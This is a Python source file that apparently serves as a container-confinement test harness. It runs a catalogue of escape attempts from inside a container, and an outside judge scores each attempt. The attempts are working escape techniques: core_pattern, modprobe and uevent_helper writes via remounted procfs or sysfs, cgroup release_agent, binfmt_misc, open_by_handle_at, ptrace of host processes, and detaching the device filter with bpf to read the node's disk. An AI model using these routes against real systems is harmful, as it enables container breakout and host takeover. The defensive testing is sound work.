"""Escape attempts, run INSIDE a container (python3 of the dind image): `corpus.py NAME TOKEN [ARG...]`.

Each attempt only tries; it prints one JSON line {"done": bool, "steps": [...], "read": "..."}.
Whether it escaped is judged outside, by the node guest's own state (corpus_judge.py): a kernel
setting holding the attempt's value, a file or key planted by the guest read back, a mount seen in
the container's mount namespace. x86_64 syscall numbers.
"""

import ctypes
import ctypes.util
import errno
import json
import os
import struct
import sys

libc = ctypes.CDLL(ctypes.util.find_library("c") or "libc.so.6", use_errno=True)
libc.syscall.restype = ctypes.c_long
libc.mount.argtypes = [ctypes.c_char_p, ctypes.c_char_p, ctypes.c_char_p, ctypes.c_ulong, ctypes.c_char_p]

SYS = {"pivot_root": 155, "add_key": 248, "keyctl": 250, "unshare": 272, "perf_event_open": 298, "name_to_handle_at": 303,
       "open_by_handle_at": 304, "bpf": 321, "userfaultfd": 323, "io_uring_setup": 425, "open_tree": 428, "move_mount": 429,
       "fsopen": 430, "fsconfig": 431, "fsmount": 432, "mount_setattr": 442, "ptrace": 101}
MS_RDONLY, MS_REMOUNT, MS_BIND, MS_REC, MS_PRIVATE = 1, 32, 4096, 16384, 1 << 18
steps: list[str] = []


class Failed(Exception):
    pass


def err(what):
    number = ctypes.get_errno()
    steps.append(f"{what}: {errno.errorcode.get(number, number)}")
    raise Failed(what)


def ok(what):
    steps.append(f"{what}: ok")


def syscall(name, *args):
    result = libc.syscall(SYS[name], *args)
    if result < 0:
        err(name)
    ok(name)
    return result


def mount(source, target, fstype, flags=0, data=None):
    os.makedirs(target, exist_ok=True) if not os.path.isfile(source or "") else None
    if libc.mount(source.encode() if source else None, target.encode(), fstype.encode() if fstype else None, flags,
                  data.encode() if data else None) != 0:
        err(f"mount {fstype or ''} {source} -> {target} flags={flags:#x} {data or ''}")
    ok(f"mount {fstype or ''} {source} -> {target} flags={flags:#x} {data or ''}")


def bind_file(source, target):
    open(target, "a").close()
    mount(source, target, None, MS_BIND)


def write(path, text):
    try:
        with open(path, "w") as handle:
            handle.write(text)
    except OSError as error:
        steps.append(f"write {path}: {errno.errorcode.get(error.errno, error.errno)}")
        raise Failed(path) from None
    ok(f"write {path}")


def read(path, size=65536, binary=False):
    try:
        with open(path, "rb") as handle:
            data = handle.read(size)
    except OSError as error:
        steps.append(f"read {path}: {errno.errorcode.get(error.errno, error.errno)}")
        raise Failed(path) from None
    ok(f"read {path}")
    return data if binary else data.decode(errors="replace")


DOCKER = "/var/lib/docker"


def proc_under_docker():
    mount("proc", f"{DOCKER}/kedgelab-proc", "proc")
    return f"{DOCKER}/kedgelab-proc"


# --- the attempts: each takes the token and its arguments ------------------------------------

def proc_mount_core_pattern(token, *_):
    """A new procfs under /var/lib/docker (allowed), core_pattern written through it at that path."""
    write(f"{proc_under_docker()}/sys/kernel/core_pattern", f"|/tmp/{token}")


def proc_mount_bind_kernel_core_pattern(token, *_):
    """The review's route: procfs under /var/lib/docker, its sys/kernel bound to /tmp/k2, core_pattern there."""
    mount(f"{proc_under_docker()}/sys/kernel", "/tmp/kedgelab-k2", None, MS_BIND)
    write("/tmp/kedgelab-k2/core_pattern", f"|/tmp/{token}")


def proc_mount_bind_sys_under_docker_core_pattern(token, *_):
    """procfs under /var/lib/docker, its sys bound to another path under /var/lib/docker."""
    mount(f"{proc_under_docker()}/sys", f"{DOCKER}/kedgelab-s3", None, MS_BIND)
    write(f"{DOCKER}/kedgelab-s3/kernel/core_pattern", f"|/tmp/{token}")


def proc_mount_bind_kernel_modprobe(token, *_):
    mount(f"{proc_under_docker()}/sys/kernel", "/tmp/kedgelab-k4", None, MS_BIND)
    write("/tmp/kedgelab-k4/modprobe", f"/tmp/{token}")


def proc_mount_bind_sysrq_trigger(token, *_):
    bind_file(f"{proc_under_docker()}/sysrq-trigger", "/tmp/kedgelab-srq")
    write("/tmp/kedgelab-srq", "h")


def bind_proc_sys_kernel_remount_rw(token, *_):
    """The container's own /proc/sys/kernel bound elsewhere, then remount,bind,rw, then core_pattern."""
    mount("/proc/sys/kernel", "/tmp/kedgelab-k6", None, MS_BIND)
    mount(None, "/tmp/kedgelab-k6", None, MS_REMOUNT | MS_BIND)
    write("/tmp/kedgelab-k6/core_pattern", f"|/tmp/{token}")


def bind_proc_sys_remount_rw(token, *_):
    mount("/proc/sys", "/tmp/kedgelab-s7", None, MS_BIND | MS_REC)
    mount(None, "/tmp/kedgelab-s7", None, MS_REMOUNT | MS_BIND)
    write("/tmp/kedgelab-s7/kernel/core_pattern", f"|/tmp/{token}")


def remount_proc_sys_rw(token, value, *_):
    """Remount the read-only /proc/sys read-write, then a global sysctl no deny rule names."""
    mount(None, "/proc/sys", None, MS_REMOUNT | MS_BIND)
    write("/proc/sys/kernel/printk_ratelimit", value)


def remount_sys_rw(token, value, *_):
    """Remount the read-only /sys read-write, then a global sysfs setting no deny rule names."""
    mount(None, "/sys", None, MS_REMOUNT)
    write("/sys/kernel/mm/transparent_hugepage/khugepaged/pages_to_scan", value)


# A nested container's root under the engine's data root: kedge's profile lets a procfs and a sysfs be
# mounted at its /proc and /sys (as runc does), so these go on from there.
RUNC_ROOT = f"{DOCKER}/kedgelab-root"


def runc_place_proc_bind_core_pattern(token, *_):
    """A procfs where runc puts one, its sys/kernel bound to /tmp, core_pattern written there."""
    mount("proc", f"{RUNC_ROOT}/proc", "proc")
    mount(f"{RUNC_ROOT}/proc/sys/kernel", "/tmp/kedgelab-k9", None, MS_BIND)
    write("/tmp/kedgelab-k9/core_pattern", f"|/tmp/{token}")


def runc_place_proc_global_sysctl(token, value, *_):
    """A procfs where runc puts one, a global sysctl no single rule names written through it."""
    mount("proc", f"{RUNC_ROOT}/proc", "proc")
    write(f"{RUNC_ROOT}/proc/sys/kernel/printk_ratelimit", value)


def runc_place_sysfs_module_parameter(token, value, *_):
    """A sysfs where runc puts one (new network namespace), a module parameter written through it."""
    syscall("unshare", 0x40000000)
    mount("sysfs", f"{RUNC_ROOT}/sys", "sysfs")
    write(f"{RUNC_ROOT}/sys/module/printk/parameters/time", value)


def uevent_helper(token, *_):
    """/sys/kernel/uevent_helper through a fresh sysfs in a new network namespace."""
    syscall("unshare", 0x40000000)  # CLONE_NEWNET
    mount("sysfs", f"{DOCKER}/kedgelab-sys", "sysfs")
    write(f"{DOCKER}/kedgelab-sys/kernel/uevent_helper", f"/tmp/{token}")


def sysfs_module_parameter(token, value, *_):
    """A fresh sysfs under /var/lib/docker in a new network namespace, a module parameter written there."""
    syscall("unshare", 0x40000000)
    mount("sysfs", f"{DOCKER}/kedgelab-sys", "sysfs")
    write(f"{DOCKER}/kedgelab-sys/module/printk/parameters/time", value)


def cgroup_v1_release_agent(token, *_):
    mount("cgroup", "/tmp/kedgelab-cg", "cgroup", 0, "none,name=kedgelab")
    write("/tmp/kedgelab-cg/release_agent", f"/tmp/{token}")


def binfmt_misc_register(token, *_):
    mount("binfmt_misc", "/tmp/kedgelab-binfmt", "binfmt_misc")
    write("/tmp/kedgelab-binfmt/register", f":kedgelab{token[-8:]}:E::kedgelab{token[-8:]}::/bin/true:")


def _fs_mount(fstype):
    def attempt(token, *_):
        mount(fstype, f"/tmp/kedgelab-{token[-8:]}-{fstype}", fstype)
    attempt.__doc__ = f"mount a {fstype}"
    return attempt


def mount_setattr_proc_sys(token, value, *_):
    """mount_setattr clearing MOUNT_ATTR_RDONLY on /proc/sys, then a global sysctl."""
    attr = struct.pack("QQQQ", 0, 1, 0, 0)  # attr_set, attr_clr = MOUNT_ATTR_RDONLY, propagation, userns_fd
    buffer = ctypes.create_string_buffer(attr)
    syscall("mount_setattr", -100, b"/proc/sys", 0x8000, buffer, len(attr))  # AT_RECURSIVE
    write("/proc/sys/kernel/printk_ratelimit", value)


def new_mount_api_proc(token, *_):
    """fsopen/fsmount a procfs and move_mount it to /tmp (no fstype seen by mount mediation), core_pattern there."""
    fs = syscall("fsopen", b"proc", 0)
    syscall("fsconfig", fs, 6, None, None, 0)  # FSCONFIG_CMD_CREATE
    mnt = syscall("fsmount", fs, 0, 0)
    os.makedirs("/tmp/kedgelab-nm", exist_ok=True)
    syscall("move_mount", mnt, b"", -100, b"/tmp/kedgelab-nm", 4)  # MOVE_MOUNT_F_EMPTY_PATH
    write("/tmp/kedgelab-nm/sys/kernel/core_pattern", f"|/tmp/{token}")


def open_tree_clone_proc_sys(token, *_):
    """open_tree(OPEN_TREE_CLONE) of /proc/sys/kernel, mount_setattr rw on the detached copy, move_mount, core_pattern."""
    tree = syscall("open_tree", -100, b"/proc/sys/kernel", 1 | 0x80000)  # OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC
    attr = ctypes.create_string_buffer(struct.pack("QQQQ", 0, 1, 0, 0))
    syscall("mount_setattr", tree, b"", 0x1000, attr, 32)  # AT_EMPTY_PATH
    os.makedirs("/tmp/kedgelab-ot", exist_ok=True)
    syscall("move_mount", tree, b"", -100, b"/tmp/kedgelab-ot", 4)
    write("/tmp/kedgelab-ot/core_pattern", f"|/tmp/{token}")


def pivot_root_out(token, *_):
    """A new mount namespace and pivot_root, then look for the guest's token file through the old root,
    `..` past the new root, and PID 1's root (the node's, where PID 1 is the node's)."""
    syscall("unshare", 0x00020000)  # CLONE_NEWNS
    mount(None, "/", None, MS_REC | MS_PRIVATE)
    mount("/tmp", "/tmp", None, MS_BIND)
    os.makedirs("/tmp/kedgelab-old", exist_ok=True)
    syscall("pivot_root", b"/tmp", b"/tmp/kedgelab-old")
    found = []
    for candidate in ("/kedgelab-old/kedgelab-token", "/kedgelab-old/../kedgelab-token", "/../../kedgelab-token",
                      "/kedgelab-old/proc/1/root/kedgelab-token"):
        try:
            found.append(read(candidate))
        except Failed:
            pass
    return "".join(found)


def keyctl_node_keyring(token, *_):
    """keyctl/add_key: put a key into uid 0's user keyring, the node root's own (keyrings are not namespaced)."""
    payload = ctypes.create_string_buffer(token.encode())
    syscall("add_key", b"user", f"kedgelab-{token}".encode(), payload, len(token), ctypes.c_long(-4))  # KEY_SPEC_USER_KEYRING


def io_uring(token, *_):
    params = ctypes.create_string_buffer(120)
    syscall("io_uring_setup", 4, params)


def _bpf_load(prog_type):
    insns = struct.pack("<BBhi", 0xb7, 0, 0, 0) + struct.pack("<BBhi", 0x95, 0, 0, 0)  # r0 = 0; exit
    program = ctypes.create_string_buffer(insns)
    license_ = ctypes.create_string_buffer(b"GPL")
    attr = ctypes.create_string_buffer(struct.pack("<IIQQIIQI", prog_type, 2, ctypes.addressof(program), ctypes.addressof(license_),
                                                   0, 0, 0, 0).ljust(128, b"\0"))
    return syscall("bpf", 5, attr, 128)  # BPF_PROG_LOAD


def bpf_tracing_program(token, *_):
    """Load a kprobe-type BPF program (tracing programs read kernel memory)."""
    _bpf_load(2)  # BPF_PROG_TYPE_KPROBE


def _block_device(major_minor):
    major, minor = (int(x) for x in major_minor.split(":"))
    path = "/tmp/kedgelab-disk"
    try:
        os.unlink(path)
    except OSError:
        pass
    try:
        os.mknod(path, 0o600 | 0o060000, os.makedev(major, minor))
    except OSError as error:
        steps.append(f"mknod {major_minor}: {errno.errorcode.get(error.errno, error.errno)}")
        raise Failed("mknod") from None
    ok(f"mknod {major_minor}")
    data = read(path, 2048, binary=True)
    return data[1024 + 0x68:1024 + 0x78].hex()  # the ext4 superblock's UUID


def mknod_node_disk(token, major_minor, *_):
    """mknod the node's root disk and read its superblock (the device cgroup should refuse the open)."""
    return _block_device(major_minor)


def bpf_detach_device_filter(token, major_minor, *_):
    """Detach the container's cgroup device filter with bpf (SYS_ADMIN), then mknod and read the node's disk."""
    cgroup = "/sys/fs/cgroup"
    fd = os.open(cgroup, os.O_RDONLY | os.O_DIRECTORY)
    ids = (ctypes.c_uint32 * 8)()
    query = ctypes.create_string_buffer(struct.pack("<IIIIQI", fd, 6, 0, 0, ctypes.addressof(ids), 8).ljust(40, b"\0"))
    syscall("bpf", 16, query, 40)  # BPF_PROG_QUERY, BPF_CGROUP_DEVICE
    count = struct.unpack_from("<I", query.raw, 24)[0]
    steps.append(f"device programs attached here: {count}")
    for index in range(count):
        get = ctypes.create_string_buffer(struct.pack("<I", ids[index]).ljust(16, b"\0"))
        prog = syscall("bpf", 13, get, 16)  # BPF_PROG_GET_FD_BY_ID
        detach = ctypes.create_string_buffer(struct.pack("<III", fd, prog, 6).ljust(20, b"\0"))
        syscall("bpf", 9, detach, 20)  # BPF_PROG_DETACH
    return _block_device(major_minor)


def perf_event_system_wide(token, *_):
    attr = ctypes.create_string_buffer(struct.pack("<IIQ", 1, 128, 0).ljust(128, b"\0"))  # PERF_TYPE_SOFTWARE, cpu-clock
    syscall("perf_event_open", attr, -1, 0, -1, 0)  # every process on CPU 0


def userfaultfd(token, *_):
    syscall("userfaultfd", 0)


def dev_kmsg(token, *_):
    """mknod /dev/kmsg (char 1:11) and read the kernel log, looking for the guest's token."""
    path = "/tmp/kedgelab-kmsg"
    try:
        os.unlink(path)
    except OSError:
        pass
    try:
        os.mknod(path, 0o600 | 0o020000, os.makedev(1, 11))
    except OSError as error:
        steps.append(f"mknod 1:11: {errno.errorcode.get(error.errno, error.errno)}")
        raise Failed("mknod") from None
    fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    chunks = []
    while True:
        try:
            chunks.append(os.read(fd, 8192).decode(errors="replace"))
        except BlockingIOError:
            break
        except OSError as error:
            if error.errno == errno.EPIPE:
                continue
            break
    ok("read kmsg")
    return "".join(c for c in chunks if token in c)


def ptrace_guest_process(token, *_):
    """PTRACE_ATTACH to a guest process outside the pod (one whose command line carries the token)."""
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) != os.getpid():
            try:
                cmdline = open(f"/proc/{pid}/cmdline", "rb").read()
            except OSError:
                continue
            if token.encode() in cmdline and b"corpus.py" not in cmdline:
                steps.append(f"found pid {pid}")
                syscall("ptrace", 16, int(pid), 0, 0)  # PTRACE_ATTACH
                try:
                    os.waitpid(int(pid), 0x40000000)  # __WALL: the tracee stops
                    libc.syscall(SYS["ptrace"], 17, int(pid), 0, 0)  # PTRACE_DETACH
                except OSError:
                    pass
                return token
    steps.append("no guest process visible")
    raise Failed("ptrace")


def unshare_user_regain(token, *_):
    """unshare -U gives every capability in a new user namespace: use them on the node's core_pattern."""
    syscall("unshare", 0x10000000)  # CLONE_NEWUSER
    write("/proc/self/setgroups", "deny")
    write("/proc/self/uid_map", "0 0 1")
    mount("proc", "/tmp/kedgelab-up", "proc")
    write("/tmp/kedgelab-up/sys/kernel/core_pattern", f"|/tmp/{token}")


def open_by_handle_guest_root(token, *_):
    """The 'shocker' route: a handle for the root directory of the filesystem behind /etc/hostname (the node's)."""
    handle = ctypes.create_string_buffer(struct.pack("<Ii", 8, 0).ljust(8 + 128, b"\0"))
    mount_id = ctypes.c_int()
    syscall("name_to_handle_at", -100, b"/etc/hostname", handle, ctypes.byref(mount_id), 0)
    handle_type = struct.unpack_from("<i", handle.raw, 4)[0]
    root = ctypes.create_string_buffer(struct.pack("<IiII", 8, handle_type, 2, 0).ljust(8 + 128, b"\0"))  # inode 2, generation 0
    fd = os.open("/etc/hostname", os.O_RDONLY)
    root_fd = syscall("open_by_handle_at", fd, root, os.O_RDONLY | os.O_DIRECTORY)
    token_fd = os.open("kedgelab-token", os.O_RDONLY, dir_fd=root_fd)
    return os.read(token_fd, 256).decode(errors="replace")


def setuid_on_volume(token, *_):
    """Not an escape by itself: a setuid-root file left on a volume (the idmapped-volume caveat)."""
    path = f"{DOCKER}/kedgelab-setuid-{token[-8:]}"
    with open(path, "wb") as handle:
        handle.write(b"#!/bin/sh\n")
    os.chown(path, 0, 0)
    os.chmod(path, 0o4755)
    ok(f"setuid file {path}")


ATTEMPTS = {
    f.__name__: f for f in [
        proc_mount_core_pattern, proc_mount_bind_kernel_core_pattern, proc_mount_bind_sys_under_docker_core_pattern,
        proc_mount_bind_kernel_modprobe, proc_mount_bind_sysrq_trigger, bind_proc_sys_kernel_remount_rw, bind_proc_sys_remount_rw,
        remount_proc_sys_rw, remount_sys_rw, runc_place_proc_bind_core_pattern, runc_place_proc_global_sysctl,
        runc_place_sysfs_module_parameter, uevent_helper, sysfs_module_parameter, cgroup_v1_release_agent, binfmt_misc_register,
        mount_setattr_proc_sys, new_mount_api_proc, open_tree_clone_proc_sys, pivot_root_out, keyctl_node_keyring, io_uring,
        bpf_tracing_program, bpf_detach_device_filter, mknod_node_disk, perf_event_system_wide, userfaultfd, dev_kmsg,
        ptrace_guest_process, unshare_user_regain, open_by_handle_guest_root, setuid_on_volume,
    ]
}
for _fstype in ("debugfs", "tracefs", "securityfs", "configfs", "bpf"):
    ATTEMPTS[f"mount_{_fstype}"] = _fs_mount(_fstype)
# Last: it leaves the container without a device filter (nothing can re-attach it from inside).
ATTEMPTS["bpf_detach_device_filter"] = ATTEMPTS.pop("bpf_detach_device_filter")


def run_one(name, token, *args):
    """Runs one attempt; returns its report."""
    steps.clear()
    done, result = True, None
    # The confinement it starts under: an attempt that pivots its root away from /proc cannot read it after.
    label_before = read_label()
    try:
        result = ATTEMPTS[name](token, *args)
    except Failed:
        done = False
    except Exception as error:  # an attempt that breaks is a failed attempt, with its reason
        done = False
        steps.append(f"error: {error!r}")
    current = read_label()
    return {"done": done, "steps": list(steps), "read": result if isinstance(result, str) else "",
            "attr": label_before if current == "?" else current}


def read_label():
    try:
        return open("/proc/self/attr/current").read().strip()
    except OSError:
        return "?"


def serve():
    """One attempt per line on stdin (`NAME TOKEN [ARG...]`), each in a child process of its own (attempts change
    their namespaces); one JSON report per line on stdout. Saves a runtime exec and a Python start per attempt."""
    for line in sys.stdin:
        words = line.split()
        if not words:
            continue
        read_end, write_end = os.pipe()
        pid = os.fork()
        if pid == 0:
            os.close(read_end)
            report = json.dumps(run_one(*words)).encode() + b"\n"
            os.write(write_end, report)
            os._exit(0)
        os.close(write_end)
        chunks = []
        while True:
            chunk = os.read(read_end, 65536)
            if not chunk:
                break
            chunks.append(chunk)
        os.close(read_end)
        os.waitpid(pid, 0)
        report = b"".join(chunks).decode(errors="replace").strip() or json.dumps({"done": False, "steps": ["the attempt died"], "read": ""})
        sys.stdout.write(report + "\n")
        sys.stdout.flush()


def main():
    if sys.argv[1:] == ["serve"]:
        serve()
    else:
        print(json.dumps(run_one(*sys.argv[1:])))


if __name__ == "__main__":
    main()
